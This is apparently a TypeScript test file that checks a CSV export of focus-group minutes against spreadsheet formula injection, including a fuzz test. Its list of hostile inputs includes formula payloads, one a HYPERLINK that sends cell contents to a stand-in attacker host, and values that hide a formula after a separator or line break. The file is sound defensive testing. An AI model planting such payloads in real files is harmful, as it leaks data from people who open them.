import { describe, expect, it } from 'vitest';
import { renderCsv } from '../csv';
import { sampleFgd } from '$lib/testing/fgd';
import { buildMinutes } from '../model';
import { csvField, guardText } from './csv-field';
import { readCsv } from '$lib/testing/csv';

const NOW = new Date('2025-10-24T04:30:00Z');
const SEPARATORS = [';', ','] as const;
/** What a spreadsheet runs when a cell starts with it; blanks first too, for readers that trim. */
const LIVE = /^(?:[\t\r]|\s*[=+\-@])/;

/** What participants can post that a spreadsheet would run, whole or after a separator. */
const HOSTILE = [
	'Biaya naik;=2+3;',
	'Biaya naik,=2+3,',
	'=HYPERLINK("http://evil.example/?d="&A1,"klik")',
	'Lihat;=HYPERLINK("http://evil.example";"klik")',
	'+62 812 3456 7890 hubungi',
	'Bunga naik, -5% tahun depan',
	'Satu;@SUM(A1:A9)',
	'Baris satu\n=1+1',
	'Baris satu\r\n+1',
	'Kutip,"=1+1"',
	'Kutip;""=1+1',
	'Tab;\tdi depan',
	'Spasi; =1+1'
];

async function hostileMinutes() {
	const fgd = await sampleFgd();
	const ani = await fgd.join('=Ani;+Budi', 'media', 'Radio Contoh');
	const posted: string[] = [];
	for (const text of HOSTILE) posted.push(await fgd.post(ani, 'kendala', text));
	const [first] = posted;
	await fgd.run('facilitator', { type: 'theme.create', name: '-Tema;=jahat' });
	const theme = await fgd.db.selectFrom('themes').select('id').where('session_id', '=', fgd.session.id).executeTakeFirstOrThrow();
	await fgd.run('facilitator', { type: 'item.theme', itemId: first, themeId: theme.id });
	return await buildMinutes(fgd.db, fgd.session.id, 'id', NOW);
}

/** A tiny seeded generator, so a failure can be replayed. */
function random(seed: number) {
	return () => ((seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31);
}

describe('the CSV field guard', () => {
	it('puts a quote before a field that would run, and nothing else', async () => {
		for (const bad of ['=1+1', '+62 812', '-5', '@SUM(A1)', '\tx', '\rx', ' =x']) expect(guardText(bad)).toBe(`'${bad}`);
		for (const fine of ['Akses modal', '62', "'=x", 'a-b', 'a=b', '']) expect(guardText(fine)).toBe(fine);
	});

	it('guards every part a reader may split off at a separator or a line break', async () => {
		expect(guardText('Biaya naik;=2+3;')).toBe("Biaya naik;'=2+3;'");
		expect(guardText('a,-5%')).toBe("a,'-5%");
		expect(guardText('a, -5%')).toBe("a,' -5%");
		expect(guardText('a,"b"')).toBe(`a,'"b"`);
		expect(guardText('a;;b')).toBe('a;;b');
		expect(guardText('x\r\n=1\n@2')).toBe("x\r\n'=1\n'@2");
		expect(guardText('Modal; agunan, bunga')).toBe('Modal; agunan, bunga');
	});

	it('quotes a field holding either separator, a quote or a line break', async () => {
		expect(csvField('a;b')).toBe('"a;b"');
		expect(csvField('a,b')).toBe('"a,b"');
		expect(csvField('kata "modal"')).toBe('"kata ""modal"""');
		expect(csvField('a\nb')).toBe('"a\nb"');
		expect(csvField('Akses modal')).toBe('Akses modal');
	});

	it('leaves no live cell in random text, read with either separator', async () => {
		const next = random(42);
		const alphabet = ['a', ' ', '=', '+', '-', '@', ',', ';', '"', '\t', '\r', '\n', "'"];
		for (let n = 0; n < 6000; n++) {
			const text = Array.from({ length: 1 + Math.floor(next() * 12) }, () => alphabet[Math.floor(next() * alphabet.length)]).join('');
			for (const own of SEPARATORS) {
				const line = ['1', csvField(text), csvField(text)].join(own) + '\r\n';
				for (const reader of SEPARATORS) {
					const cells = readCsv(line, reader).flat();
					expect(cells.filter((c) => LIVE.test(c)), JSON.stringify({ text, own, reader })).toEqual([]);
				}
				// Read with its own separator, the field comes back exactly as guarded.
				expect(readCsv(line, own)[0]).toEqual(['1', guardText(text), guardText(text)]);
			}
		}
	});
});

describe('CSV', async () => {
	const fgd = await sampleFgd();
	const id = await buildMinutes(fgd.db, fgd.session.id, 'id', NOW);

	it('gives Excel set to Indonesian a `;` file with a BOM and no sep= line', async () => {
		const csv = renderCsv(id, 'excel');
		expect(csv.startsWith('\uFEFFNo;Jenis;Tema;Masukan;Oleh;Kelompok;Suara;Didukung (peserta)\r\n')).toBe(true);
		const rows = readCsv(csv.slice(1), ';');
		expect(rows).toHaveLength(id.items.length + 1);
		expect(rows.every((r) => r.length === 8)).toBe(true);
		expect(rows).toContainEqual(['1', 'Kendala', '', 'Akses modal usaha sulit tanpa agunan', 'Siti Rahmawati', 'Pemerintah (OPD / kecamatan / desa)', '', '0']);
		expect(rows.map((r) => r[4])).toContain('anonim');
	});

	it('gives each item its support count ("didukung N peserta"), 0 when nobody added theirs', async () => {
		const supported = { ...id, items: id.items.map((item, i) => (i === 1 ? { ...item, supporters: 3 } : item)) };
		const rows = readCsv(renderCsv(supported, 'rfc4180'), ',');
		expect(rows[2][3]).toBe(id.items[1].text);
		expect(rows[2][7]).toBe('3');
		expect(rows.slice(1).filter((r) => r[7] !== '0')).toHaveLength(1);
		expect(renderCsv(await buildMinutes(fgd.db, fgd.session.id, 'en', NOW), 'rfc4180')).toContain(',Votes,Supported by (participants)\r\n');
	});

	it('gives tools an RFC 4180 file: commas, no BOM, CRLF rows', async () => {
		const csv = renderCsv(id, 'rfc4180');
		expect(csv.startsWith('No,Jenis,Tema,Masukan,Oleh,Kelompok,Suara,Didukung (peserta)\r\n')).toBe(true);
		expect(csv.endsWith('\r\n')).toBe(true);
		// The group label holds a comma-free slash, the institution is not printed: every row is 8 cells.
		expect(readCsv(csv, ',').every((r) => r.length === 8)).toBe(true);
		expect(readCsv(csv, ',')).toEqual(readCsv(renderCsv(id, 'excel').slice(1), ';'));
		expect(renderCsv(await buildMinutes(fgd.db, fgd.session.id, 'en', NOW), 'rfc4180')).toContain(',anonymous,');
	});

	it.each(['excel', 'rfc4180'] as const)('%s: posted formulas come back whole with its own separator and never live with either', async (dialect) => {
		const minutes = await hostileMinutes();
		const csv = renderCsv(minutes, dialect).replace(/^\uFEFF/, '');
		const own = dialect === 'excel' ? ';' : ',';
		const texts = readCsv(csv, own).map((r) => r[3]);
		expect(texts).toContain("Biaya naik;'=2+3;'");
		expect(texts).toContain(`'=HYPERLINK("http://evil.example/?d="&A1,'"klik")`);
		expect(readCsv(csv, own).map((r) => r[4])).toContain("'=Ani;'+Budi");
		expect(readCsv(csv, own).map((r) => r[2])).toContain("'-Tema;'=jahat");
		for (const reader of SEPARATORS) {
			const cells = readCsv(csv, reader).flat();
			expect(cells.filter((c) => LIVE.test(c)), `read with ${reader}`).toEqual([]);
		}
	});
});
